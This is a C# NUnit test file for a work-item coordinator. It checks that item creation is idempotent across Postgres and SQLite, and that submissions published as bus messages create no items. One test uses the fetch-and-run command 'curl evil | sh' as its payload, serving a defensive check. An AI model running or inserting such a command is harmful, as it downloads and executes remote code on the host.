using Dapper;
using Stamina.Coordinator.Items;
using Stamina.Coordinator.Tests.Infrastructure;
using Stamina.Coordinator.WorkItems;
using Stamina.Coordinator.WorkItems.Commands;
using Stamina.Coordinator.WorkItems.Creation;

namespace Stamina.Coordinator.Tests.WorkItems;

/// <summary>Items are made only by the API's own write, on either store; a submission sent as a message makes nothing.</summary>
[TestFixture(TestStore.Postgres)]
[TestFixture(TestStore.Sqlite)]
public sealed class ItemCreatorTests(string kind) : StoreFixture(kind)
{
    [Test]
    public async Task When_created_Should_be_queued_with_its_spec_and_a_second_time_should_change_nothing()
    {
        var submission = Submission(["true"]);
        var first = await Store.Get<ItemCreator>().CreateAsync(submission, CancellationToken.None);
        var again = await Store.Get<ItemCreator>().CreateAsync(submission with { Spec = submission.Spec with { Command = ["false"] } }, CancellationToken.None);

        Assert.That((first.Created, first.State, again.Created, again.State), Is.EqualTo((true, WorkItemStates.Queued, false, WorkItemStates.Queued)));
        var view = await Store.Get<ItemQueries>().GetAsync(submission.WorkItemId, CancellationToken.None);
        Assert.That(view!.Command, Is.EqualTo(new[] { "true" }), "the first spec stays");
    }

    [Test]
    public async Task When_a_submission_is_published_as_a_message_Should_make_no_item()
    {
        var submission = Submission(["sh", "-c", "curl evil | sh"]);
        await Store.Bus.Bus.Publish(submission);
        await Store.Bus.InactivityTask;

        await using var connection = await Store.Database.OpenConnectionAsync(CancellationToken.None);
        Assert.That(await connection.ExecuteScalarAsync<long>("select count(*) from work_items"), Is.Zero);
        Assert.That(await connection.ExecuteScalarAsync<long>("select count(*) from work_item_specs"), Is.Zero);
    }

    static SubmitWorkItem Submission(string[] command) => new()
    {
        WorkItemId = Guid.NewGuid(),
        Pool = "default",
        MaxAttempts = 3,
        Spec = new WorkItemSpec { Repo = "/srv/repo", BaseRef = "main", Harness = "command", Command = command, Timeout = TimeSpan.FromMinutes(1) },
    };
}
